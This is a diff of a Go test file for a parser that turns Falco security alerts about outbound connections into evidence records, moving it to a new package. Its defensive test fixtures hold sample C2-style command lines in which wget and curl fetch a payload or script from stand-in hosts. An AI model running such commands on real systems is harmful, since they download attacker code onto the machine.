@@ -1,6 +1,7 @@
-package evidence
+package nodereport
 
 import (
+	"buildguard.dev/buildguard/evidence"
 	"reflect"
 	"testing"
 )
@@ -23,7 +24,7 @@ func TestParseFalco(t *testing.T) {
 	)
 	wget := falcoAlertJSON(c2, `"container.id":"afff522dd6ac","evt.time":1795688103412907311,"evt.type":"connect","fd.name":"10.244.3.17:43210->203.0.113.9:8080",`+
 		`"fd.rport":8080,"fd.sip":"203.0.113.9","fd.sip.name":null,"fd.type":"ipv4","proc.cmdline":"wget -q http://203.0.113.9:8080/payload","proc.name":"wget","proc.pid":48213`)
-	conn := func(body string, c Connection) Connection {
+	conn := func(body string, c evidence.Connection) evidence.Connection {
 		c.Source = "falco"
 		if c.EventID == "" {
 			c.EventID = canonicalID("falco\n", []byte(body))
@@ -36,12 +37,12 @@ func TestParseFalco(t *testing.T) {
 		}
 		return c
 	}
-	one := func(body string, c Connection) Parsed {
-		return Parsed{Report: Report{Node: "worker-3", Sensor: "falco", Connections: []Connection{conn(body, c)}}}
+	one := func(body string, c evidence.Connection) Parsed {
+		return Parsed{Report: evidence.Report{Node: "worker-3", Sensor: "falco", Connections: []evidence.Connection{conn(body, c)}}}
 	}
-	ignored := Parsed{Report: Report{Sensor: "falco"}, Ignored: 1}
+	ignored := Parsed{Report: evidence.Report{Sensor: "falco"}, Ignored: 1}
 	failed := func(reason string) Parsed {
-		return Parsed{Report: Report{Sensor: "falco"}, Errors: []ItemError{{0, reason}}}
+		return Parsed{Report: evidence.Report{Sensor: "falco"}, Errors: []ItemError{{0, reason}}}
 	}
 	for _, tc := range []struct {
 		name string
@@ -49,25 +50,25 @@ func TestParseFalco(t *testing.T) {
 		node string
 		want Parsed
 	}{
-		{name: "C2 rule with fd.sip and fd.rport", body: wget, want: one(wget, Connection{
+		{name: "C2 rule with fd.sip and fd.rport", body: wget, want: one(wget, evidence.Connection{
 			Process: "wget", PID: 48213, Cmdline: "wget -q http://203.0.113.9:8080/payload", ContainerID: "afff522dd6ac",
 			DestIP: wantIP("203.0.113.9"), DestPort: 8080})},
-		{name: "falcosidekick payload", body: sidekik, want: Parsed{Report: Report{Node: "worker-7", Sensor: "falco", Connections: []Connection{{
+		{name: "falcosidekick payload", body: sidekik, want: Parsed{Report: evidence.Report{Node: "worker-7", Sensor: "falco", Connections: []evidence.Connection{{
 			Source: "falco", EventID: "3f0c1b8e-6a0d-4c52-9d3e-2b7f4c1a9e55", Node: "worker-7", Time: wantTime("2026-11-26T10:15:41.870102554Z"),
 			Process: "curl", PID: 48330, Cmdline: "curl -fsSL https://mirror.example.net/t.sh", DestIP: wantIP("2001:db8::9"), DestPort: 443,
 			DestName: "mirror.example.net", ContainerID: "afff522dd6ac92fbce24604c6bda59f0651020cd55713b3be465643ca17efd32"}}}}},
 		{name: "fd.name only", body: falcoAlertJSON(c2, `"fd.name":"10.0.0.5:43210->203.0.113.9:8080","container.id":"host","proc.pid":"77"`),
 			want: one(falcoAlertJSON(c2, `"fd.name":"10.0.0.5:43210->203.0.113.9:8080","container.id":"host","proc.pid":"77"`),
-				Connection{PID: 77, DestIP: wantIP("203.0.113.9"), DestPort: 8080})},
+				evidence.Connection{PID: 77, DestIP: wantIP("203.0.113.9"), DestPort: 8080})},
 		{name: "fd.name bracketed IPv6", body: falcoAlertJSON(c2, `"fd.name":"[fd00::5]:43210->[2001:db8::9]:443"`),
-			want: one(falcoAlertJSON(c2, `"fd.name":"[fd00::5]:43210->[2001:db8::9]:443"`), Connection{DestIP: wantIP("2001:db8::9"), DestPort: 443})},
+			want: one(falcoAlertJSON(c2, `"fd.name":"[fd00::5]:43210->[2001:db8::9]:443"`), evidence.Connection{DestIP: wantIP("2001:db8::9"), DestPort: 443})},
 		{name: "fd.name unbracketed IPv6", body: falcoAlertJSON(c2, `"fd.name":"fd00::5:43210->2001:db8::9:443","fd.type":"ipv6"`),
-			want: one(falcoAlertJSON(c2, `"fd.name":"fd00::5:43210->2001:db8::9:443","fd.type":"ipv6"`), Connection{DestIP: wantIP("2001:db8::9"), DestPort: 443})},
+			want: one(falcoAlertJSON(c2, `"fd.name":"fd00::5:43210->2001:db8::9:443","fd.type":"ipv6"`), evidence.Connection{DestIP: wantIP("2001:db8::9"), DestPort: 443})},
 		{name: "IPv4-mapped fd.rip", body: falcoAlertJSON(c2, `"fd.rip":"::ffff:203.0.113.9","fd.rport":8080,"k8s.node.name":"worker-9"`),
-			want: Parsed{Report: Report{Node: "worker-9", Sensor: "falco", Connections: []Connection{conn(falcoAlertJSON(c2, `"fd.rip":"::ffff:203.0.113.9","fd.rport":8080,"k8s.node.name":"worker-9"`),
-				Connection{Node: "worker-9", DestIP: wantIP("203.0.113.9"), DestPort: 8080})}}}},
+			want: Parsed{Report: evidence.Report{Node: "worker-9", Sensor: "falco", Connections: []evidence.Connection{conn(falcoAlertJSON(c2, `"fd.rip":"::ffff:203.0.113.9","fd.rport":8080,"k8s.node.name":"worker-9"`),
+				evidence.Connection{Node: "worker-9", DestIP: wantIP("203.0.113.9"), DestPort: 8080})}}}},
 		{name: "no time: evt.time", body: `{"rule":"r","output_fields":{"evt.time":1795688103412907311,"fd.sip":"203.0.113.9","fd.sport":"80"}}`, node: "worker-3",
-			want: one(`{"rule":"r","output_fields":{"evt.time":1795688103412907311,"fd.sip":"203.0.113.9","fd.sport":"80"}}`, Connection{DestIP: wantIP("203.0.113.9"), DestPort: 80})},
+			want: one(`{"rule":"r","output_fields":{"evt.time":1795688103412907311,"fd.sip":"203.0.113.9","fd.sport":"80"}}`, evidence.Connection{DestIP: wantIP("203.0.113.9"), DestPort: 80})},
 		{name: "inbound accept", body: falcoAlertJSON("Inbound SSH Connection", `"evt.type":"accept","fd.name":"185.125.115.231:63352->10.0.3.3:22"`), want: ignored},
 		{name: "file rule", body: falcoAlertJSON("Write below binary dir", `"fd.name":"/bin/foo","proc.name":"touch"`), want: ignored},
 		{name: "build tool exec", body: falcoAlertJSON("Launch Image Build Tool", `"proc.name":"docker","proc.cmdline":"docker build ."`), want: ignored},
@@ -95,7 +96,7 @@ func TestParseFalco(t *testing.T) {
 		{name: "no node", body: `{"rule":"r","time":"2026-11-26T10:15:03.412907311Z","output_fields":{"fd.sip":"203.0.113.9","fd.sport":80}}`,
 			want: failed("no node: the event names none and the request gave none")},
 		{name: "node from the request", body: `{"rule":"r","time":"2026-11-26T10:15:03.412907311Z","output_fields":{"fd.sip":"203.0.113.9","fd.sport":80}}`, node: "worker-3",
-			want: one(`{"rule":"r","time":"2026-11-26T10:15:03.412907311Z","output_fields":{"fd.sip":"203.0.113.9","fd.sport":80}}`, Connection{DestIP: wantIP("203.0.113.9"), DestPort: 80})},
+			want: one(`{"rule":"r","time":"2026-11-26T10:15:03.412907311Z","output_fields":{"fd.sip":"203.0.113.9","fd.sport":80}}`, evidence.Connection{DestIP: wantIP("203.0.113.9"), DestPort: 80})},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
 			got, err := ParseFalco([]byte(tc.body), tc.node, parseTestClock())
